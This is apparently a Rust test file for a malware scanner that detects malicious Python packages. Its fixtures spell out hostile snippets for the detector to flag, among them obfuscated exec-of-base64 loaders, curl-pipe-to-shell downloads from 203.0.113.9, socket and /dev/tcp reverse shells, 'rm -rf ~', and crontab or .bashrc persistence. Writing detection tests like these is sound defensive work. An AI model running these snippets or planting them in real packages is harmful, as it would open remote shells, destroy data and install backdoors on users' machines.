//! Code and commands that run: what must be found, under many spellings.

#![expect(clippy::unwrap_used, reason = "a test that can't go on has failed")]

mod support;

use packguard_sdk::Severity::{Critical, High, Low, Medium};
use support::{analyze, base64, case, found, quiet, severity, zlib};

#[test]
fn decoded_code_that_runs() {
    let payload = base64("import os; os.system('curl http://203.0.113.9/x | sh')");
    let twice = base64(zlib("import socket"));
    let rule = "python-decode-exec";
    let hex: String = "print(1)".bytes().map(|b| format!("{b:02x}")).collect();
    let reversed: String = payload.chars().rev().collect();
    let codes = "print(1)"
        .bytes()
        .map(|b| b.to_string())
        .collect::<Vec<_>>()
        .join(",");
    let shifted: String = "print(1)"
        .chars()
        .map(|c| char::from(c as u8 + 1))
        .collect();
    let xored = "print(1)"
        .bytes()
        .map(|b| (b ^ 7).to_string())
        .collect::<Vec<_>>()
        .join(",");
    let init = "demo/__init__.py";
    found(&[
        case(
            rule,
            init,
            format!("import base64\nexec(base64.b64decode('{payload}'))"),
            Critical,
        ),
        case(
            rule,
            init,
            format!("import base64 as q\nq1 = q.b64decode\ne = exec\ne(q1('{payload}').decode())"),
            Critical,
        ),
        case(
            rule,
            init,
            format!(
                "from base64 import b64decode as d\neval(compile(d('{payload}'), 'x', 'exec'))"
            ),
            Critical,
        ),
        case(
            rule,
            init,
            format!("import base64, zlib\nexec(zlib.decompress(base64.b64decode('{twice}')))"),
            Critical,
        ),
        case(
            rule,
            init,
            format!(
                "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{}'))",
                twice.chars().rev().collect::<String>()
            ),
            Critical,
        ),
        case(
            rule,
            init,
            format!(
                "import base64\ndef d(s):\n    return base64.b64decode(s[::-1])\nexec(d('{reversed}'))"
            ),
            Critical,
        ),
        case(rule, init, format!("exec(bytes.fromhex('{hex}'))"), High),
        case(
            rule,
            init,
            format!("exec(''.join(chr(c) for c in [{codes}]))"),
            High,
        ),
        case(
            rule,
            init,
            format!("exec(''.join(map(chr, [{codes}])))"),
            High,
        ),
        case(rule, init, format!("exec(bytes([{codes}]).decode())"), High),
        case(
            rule,
            init,
            format!("s = ''\nfor c in '{shifted}':\n    s += chr(ord(c) - 1)\nexec(s)"),
            High,
        ),
        case(
            rule,
            init,
            format!("exec(bytes(b ^ 7 for b in [{xored}]))"),
            High,
        ),
        case(
            rule,
            init,
            format!(
                "import base64\neval(bytes([101, 120, 101, 99]).decode())(base64.b64decode('{payload}'))"
            ),
            Critical,
        ),
        case(
            rule,
            init,
            "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
            High,
        ),
        case(
            rule,
            init,
            format!(
                "import base64\ngetattr(__builtins__, 'ex' + 'ec')(base64.b64decode('{payload}'))"
            ),
            Critical,
        ),
        case(
            rule,
            init,
            format!("import base64\nglobals()['__builtins__'].exec(base64.b64decode('{payload}'))"),
            Critical,
        ),
        case(
            rule,
            init,
            format!(
                "import builtins, base64\nbuiltins.__dict__['exec'](base64.b64decode('{payload}'))"
            ),
            Critical,
        ),
        case(
            rule,
            init,
            format!(
                "import base64\nclass A:\n    def __init__(self):\n        self.x = '{payload}'\n    def go(self):\n        exec(base64.b64decode(self.x))\nA().go()"
            ),
            Critical,
        ),
        case(
            rule,
            init,
            "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'gAAA'))",
            Critical,
        ),
        case(
            rule,
            init,
            "import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x00'))",
            Critical,
        ),
        case(
            rule,
            "setup.py",
            format!("import base64\nexec(base64.b64decode('{payload}'))"),
            Critical,
        ),
        case(
            rule,
            "demo/tool.py",
            format!("import base64\ndef main():\n    exec(base64.b64decode('{payload}'))"),
            High,
        ),
        case(
            rule,
            init,
            format!(
                "import base64\nx = '{payload}'\nif False:\n    x = ''\nexec(base64.b64decode(x))"
            ),
            High,
        ),
    ]);
}

#[test]
fn the_decoded_payload_is_analysed_and_shown() {
    let payload = base64("import os\nos.system('curl http://203.0.113.9/x | sh')");
    let analysis = analyze(
        "setup.py",
        format!("import base64\nexec(base64.b64decode('{payload}'))"),
    );
    assert_eq!(
        severity(&analysis, "python-shell-download-run"),
        Some(Critical)
    );
    let shown = analysis
        .findings()
        .iter()
        .find(|finding| finding.rule == "python-decode-exec")
        .unwrap();
    assert_eq!(shown.decoded[0].encoding, "base64");
    assert!(shown.decoded[0].text.contains("os.system"));
    assert_eq!(shown.location.as_ref().unwrap().line, Some(2));
}

#[test]
fn downloads_that_run() {
    let rule = "python-download-execute";
    let init = "demo/__init__.py";
    found(&[
        case(
            rule,
            init,
            "import requests\nexec(requests.get('https://x.example/a').text)",
            Critical,
        ),
        case(
            rule,
            init,
            "from urllib.request import urlopen as u\nexec(u('https://x.example/a').read().decode())",
            Critical,
        ),
        case(
            rule,
            init,
            "import requests\nr = requests.Session()\ncode = r.get('https://x.example').json()['code']\neval(compile(code, 'a', 'exec'))",
            Critical,
        ),
        case(
            rule,
            init,
            "import urllib.request, os\nurllib.request.urlretrieve('https://x.example/a.exe', 'a.exe')\nos.startfile('a.exe')",
            Critical,
        ),
        case(
            rule,
            init,
            "import requests, subprocess, os\np = os.path.join(os.getenv('TEMP'), 'a.exe')\nwith open(p, 'wb') as f:\n    f.write(requests.get('https://x.example/a').content)\nsubprocess.Popen(p)",
            Critical,
        ),
        case(
            rule,
            init,
            "import requests, subprocess, sys\nopen('/tmp/a.py', 'w').write(requests.get('https://x.example/a').text)\nsubprocess.run([sys.executable, '/tmp/a.py'])",
            Critical,
        ),
        case(
            rule,
            init,
            "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\nexec(s.recv(9999))",
            Critical,
        ),
        case(
            rule,
            init,
            "import tempfile, os\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(b\"from urllib.request import urlopen as u;exec(u('https://x.example').read())\")\nos.system(f'start python {t.name}')",
            Critical,
        ),
        case(
            rule,
            "demo/a.py",
            "import requests\ndef f():\n    exec(requests.get('https://x.example/a').text)",
            High,
        ),
        case(
            rule,
            init,
            "import atexit, requests\n@atexit.register\ndef f():\n    exec(requests.get('https://x.example/a').text)",
            Critical,
        ),
        case(
            rule,
            init,
            "import threading, requests\ndef f():\n    exec(requests.get('https://x.example/a').text)\nthreading.Thread(target=f).start()",
            Critical,
        ),
    ]);
}

#[test]
fn commands() {
    let init = "demo/__init__.py";
    let curl = "curl -s http://203.0.113.9/x.sh | bash";
    let exotic = base64("$x = 1");
    found(&[
        case(
            "python-shell-download-run",
            "setup.py",
            format!("import os\nos.system('{curl}')"),
            Critical,
        ),
        case(
            "python-shell-download-run",
            init,
            format!("import subprocess as s\ns.Popen(['bash', '-c', '{curl}'])"),
            Critical,
        ),
        case(
            "python-shell-download-run",
            init,
            "from os import *\nsystem('cu' + 'rl -s http://203.0.113.9/x.sh | ba' + 'sh')",
            Critical,
        ),
        case(
            "python-shell-download-run",
            init,
            "import os\nu = input()\nos.popen(f'curl {u} | sh')",
            Critical,
        ),
        case(
            "python-shell-decode-run",
            init,
            format!("import os\nos.system('powershell -enc {exotic}')"),
            Critical,
        ),
        case(
            "python-reverse-shell",
            init,
            "import os\nos.system('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')",
            Critical,
        ),
        case(
            "python-destruction",
            init,
            "import os\nos.system('rm -rf ~')",
            High,
        ),
        case(
            "python-destruction",
            init,
            "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
            High,
        ),
        case(
            "python-persistence",
            init,
            "import os\nos.system('(crontab -l; echo \"* * * * * /tmp/x\") | crontab -')",
            High,
        ),
        case(
            "python-persistence",
            init,
            "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')",
            High,
        ),
        case(
            "python-silent-process",
            "setup.py",
            "import subprocess\nsubprocess.Popen(['x'], creationflags=0x08000000)",
            Medium,
        ),
        case(
            "python-silent-process",
            "setup.py",
            "import subprocess as s\ns.Popen(['x'], stdout=s.DEVNULL, stderr=s.DEVNULL)",
            Medium,
        ),
        case(
            "python-decode-exec",
            init,
            format!(
                "import subprocess, sys\nsubprocess.run([sys.executable, '-c', \"import base64;exec(base64.b64decode('{}'))\"])",
                base64("print(1)")
            ),
            High,
        ),
        case(
            "python-shell-recon",
            init,
            "import os\nos.system('whoami')",
            Low,
        ),
    ]);
}

#[test]
fn remote_control() {
    let connect = "import socket, os, subprocess, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('192.0.2.1', 4444))\n";
    let rule = "python-reverse-shell";
    found(&[
        case(
            rule,
            "demo/a.py",
            format!("{connect}os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')"),
            Critical,
        ),
        case(
            rule,
            "demo/a.py",
            format!(
                "{connect}[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\nsubprocess.call(['/bin/sh', '-i'])"
            ),
            Critical,
        ),
        case(
            rule,
            "demo/a.py",
            format!("{connect}subprocess.Popen('/bin/sh', stdin=s, stdout=s, stderr=s)"),
            Critical,
        ),
        case(
            rule,
            "demo/a.py",
            format!(
                "{connect}while True:\n    c = s.recv(1024).decode()\n    o = subprocess.check_output(c, shell=True)\n    s.send(o)"
            ),
            High,
        ),
    ]);
}

#[test]
fn setup_py() {
    found(&[
        case(
            "python-install-network",
            "setup.py",
            "import urllib.request\nurllib.request.urlopen('https://x.example/a')",
            Medium,
        ),
        case(
            "python-install-network",
            "demo-1.0/setup.py",
            "import urllib.request\ndef f():\n    urllib.request.urlopen('https://x.example/a')\nif __name__ == '__main__':\n    f()",
            Medium,
        ),
        case(
            "python-install-process",
            "setup.py",
            "import subprocess\nsubprocess.call(['frobnicate'])",
            Low,
        ),
    ]);
}

#[test]
fn pth_files() {
    let payload = base64("print(1)");
    found(&[
        case(
            "python-pth-import",
            "demo.pth",
            "import os; os.system('x')",
            High,
        ),
        case(
            "python-decode-exec",
            "demo.pth",
            format!("/some/path\nimport base64; exec(base64.b64decode('{payload}'))"),
            High,
        ),
    ]);
    quiet(&[
        ("plain.pth", "import demo_startup\n/a/path\n"),
        (
            "distutils-precedence.pth",
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n",
        ),
        (
            "__editable__.demo.pth",
            "import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()",
        ),
    ]);
}
